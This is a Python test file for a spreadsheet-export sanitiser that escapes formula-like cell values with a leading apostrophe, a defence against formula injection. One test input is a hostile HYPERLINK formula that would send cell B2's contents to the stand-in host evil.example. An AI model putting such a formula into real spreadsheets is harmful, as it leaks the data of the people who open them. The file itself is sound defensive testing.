"""spreadsheets.safe_cell: a text a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import pytest

from marketplace.spreadsheets import safe_cell, safe_row


@pytest.mark.parametrize(("value", "written"), [
    ('=HYPERLINK("http://evil.example/?d="&B2,"Xem")', '\'=HYPERLINK("http://evil.example/?d="&B2,"Xem")'),
    ("+84 900 000 002", "'+84 900 000 002"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("Hội quán Xoài", "Hội quán Xoài"), ("", ""), (3, 3), (-2, -2), (None, None),
])
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def test_safe_row_keeps_the_numbers():
    assert safe_row(["=1+1", 2, 3]) == ["'=1+1", 2, 3]
